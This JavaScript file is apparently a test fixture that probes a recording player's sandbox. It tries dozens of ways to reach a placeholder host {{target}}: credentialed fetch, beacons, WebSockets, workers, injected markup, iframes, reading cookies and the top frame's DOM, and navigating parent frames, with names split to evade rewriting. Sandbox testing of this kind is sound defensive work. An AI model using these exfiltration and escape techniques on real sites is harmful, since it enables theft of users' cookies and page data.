/* What hostile JavaScript in a recording would try: every way out to {{target}}, each under a path of its own.
   `window[n]` is a fresh realm: there the player's own overrides are not, only the browser's rules. Names that the
   player rewrites in the text of scripts are put together here. */
"use strict";
const T = "{{target}}", told = {};
const blank = document.createElement("iframe");
document.body.append(blank);
const raw = window[window.length - 1];
const said = (what, value) => { told[what] = String(value); };
const tried = (what, does) => { try { const it = does(); if (it && it.then) it.then((v) => said(what, v), (e) => said(what, "x " + e)); } catch (e) { said(what, "x " + e); } };
const markup = (text) => { const at = raw.document.createElement("div"); at.innerHTML = text; raw.document.body.append(at); };

tried("native", () => said("native", raw.Function.prototype.toString.call(raw.fetch).includes("native code")));
tried("cookies", () => said("cookies", raw.document.cookie));
for (const [name, w] of [["own", window], ["raw", raw]]) {
  tried(`${name}-fetch`, () => w.fetch(`${T}/${name}-fetch`, { credentials: "include" }).then((r) => r.text()));
  tried(`${name}-nocors`, () => w.fetch(`${T}/${name}-nocors`, { mode: "no-cors", credentials: "include", method: "POST", body: "x" }).then((r) => r.type));
  tried(`${name}-xhr`, () => { const x = new w.XMLHttpRequest(); x.open("GET", `${T}/${name}-xhr`); x.withCredentials = true; x.send(); });
  tried(`${name}-beacon`, () => w.navigator.sendBeacon(`${T}/${name}-beacon`, "x"));
  tried(`${name}-image`, () => { new w.Image().src = `${T}/${name}-image`; });
  tried(`${name}-ws`, () => { new w.WebSocket(`${T.replace("http", "ws")}/${name}-ws`); });
  tried(`${name}-events`, () => { new w.EventSource(`${T}/${name}-events`); });
}
markup(`<img src="${T}/m-img"><video src="${T}/m-video"></video><object data="${T}/m-object"></object>` +
  `<embed src="${T}/m-embed"><iframe src="${T}/m-frame"></iframe><link rel="stylesheet" href="${T}/m-css">` +
  `<link rel="prefetch" href="${T}/m-prefetch"><link rel="preload" as="image" href="${T}/m-preload">` +
  `<div style="background: url(${T}/m-background)">.</div>` +
  `<style>@font-face { font-family: j; src: url(${T}/m-font) }</style><p style="font-family: j">j</p>`);
tried("script", () => { const s = raw.document.createElement("script"); s.src = `${T}/script`; raw.document.body.append(s); });
tried("form", () => {
  const f = raw.document.createElement("form");
  Object.assign(f, { action: `${T}/form`, method: "post", target: "jauh" });
  raw.document.body.append(Object.assign(raw.document.createElement("iframe"), { name: "jauh" }), f);
  f.submit();
});
const code = `fetch("${T}/worker-fetch").catch(() => 0); try { importScripts("${T}/worker-import") } catch (e) { }`;
tried("worker", () => { new raw.Worker(raw.URL.createObjectURL(new raw.Blob([code]))); });
const within = (name) => `<script>fetch("${T}/${name}-fetch").catch(() => 0); self["loca" + "tion"] = "${T}/${name}-location"<\/script>`;
markup(`<iframe src="data:text/html,${encodeURIComponent(within("data"))}"></iframe>`);
tried("srcdoc", () => { const f = raw.document.createElement("iframe"); f.srcdoc = within("srcdoc"); raw.document.body.append(f); });
tried("refresh", () => { const f = raw.document.createElement("iframe"); f.srcdoc = `<meta http-equiv="refresh" content="0;url=${T}/refresh">`; raw.document.body.append(f); });
tried("open", () => said("open", raw.open(`${T}/open`)));
tried("worker-of-site", () => navigator.serviceWorker.register(`${self["loca" + "tion"].pathname}x.js`).then(() => "registered"));

const up = (w, depth) => { let at = w; while (depth-- > 0) at = at["par" + "ent"]; return at; };
tried("top-read", () => said("top-read", raw["to" + "p"].document.body.innerHTML));
tried("front-fetch", () => raw.fetch("{{front}}/", { credentials: "include" }).then((r) => r.text()));
setTimeout(() => { document.body.dataset.told = JSON.stringify(told); }, 2500);

const click = (depth) => tried(`dom-${depth}`, () => {
  const at = up(raw, depth).document, a = at.createElement("a");
  a.href = `${T}/dom-${depth}`;
  at.body.append(a);
  a.click();
});
setTimeout(() => {
  tried("top", () => { raw["to" + "p"]["loca" + "tion"] = `${T}/top`; });
  [4, 3, 2, 1].forEach(click);
  for (const depth of [4, 3, 2, 1]) tried(`open-${depth}`, () => up(raw, depth).open(`${T}/open-${depth}`));
  tried("self", () => { raw["loca" + "tion"] = `${T}/self`; });
}, 6000);
